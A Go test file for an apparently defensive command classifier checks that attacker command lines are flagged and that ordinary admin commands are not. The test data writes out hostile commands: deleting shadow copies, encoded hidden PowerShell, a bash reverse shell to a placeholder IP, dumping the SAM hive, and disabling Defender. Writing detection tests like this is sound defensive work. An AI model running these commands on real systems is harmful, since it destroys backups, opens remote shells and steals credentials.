package behaviour

import (
	"testing"

	"github.com/sekisho-waf/sekisho"
)

func TestCommand_knowsWhatAttackersType(t *testing.T) {
	for _, test := range []struct {
		line   string
		class  sekisho.Class
		family string
	}{
		{`vssadmin.exe Delete Shadows /All /Quiet`, sekisho.ClassRansomware, "ransomware"},
		{`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -EncodedCommand "aGVsbG93b3JsZA=="`, sekisho.ClassMalware, "hidden_command"},
		{`powershell -nop -w hidden -enc SQBFAFgAIAAoAA==`, sekisho.ClassMalware, "hidden_command"},
		{`powershell /e SQBFAFgAIAAoAA==`, sekisho.ClassMalware, "hidden_command"},
		{`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, sekisho.ClassC2, "reverse_shell"},
		{`reg save HKLM\SAM sam.hiv`, sekisho.ClassMalware, "credential_theft"},
		{`powershell Set-MpPreference -DisableRealtimeMonitoring $true`, sekisho.ClassTampering, "tampering"},
	} {
		got, ok := Command(test.line)
		if !ok || got.Class != test.class || got.Family != test.family || got.Confidence <= 0 || got.Confidence >= 1 {
			t.Errorf("%s: got %+v, %t, want %s %s", test.line, got, ok, test.class, test.family)
		}
	}
}

func TestCommand_leavesADaysWorkAlone(t *testing.T) {
	for _, line := range []string{
		"", `C:\Windows\explorer.exe`, `powershell -ExecutionPolicy Bypass -File C:\tools\backup.ps1`, `powershell -Encoding utf8 -Command Get-Date`,
		`vssadmin list shadows`, `net user`, `curl https://example.com/file.zip -o file.zip`, `/usr/bin/python3 /opt/app/main.py --enc aes`,
		`powershell.exe -NoProfile -ep bypass -c "Get-Process"`,
	} {
		if got, ok := Command(line); ok {
			t.Errorf("%s: got %s, want nothing", line, got.Signature)
		}
	}
}

func FuzzCommand(f *testing.F) {
	f.Add(`powershell "-e" 'x`)
	f.Fuzz(func(_ *testing.T, line string) { _, _ = Command(line) })
}
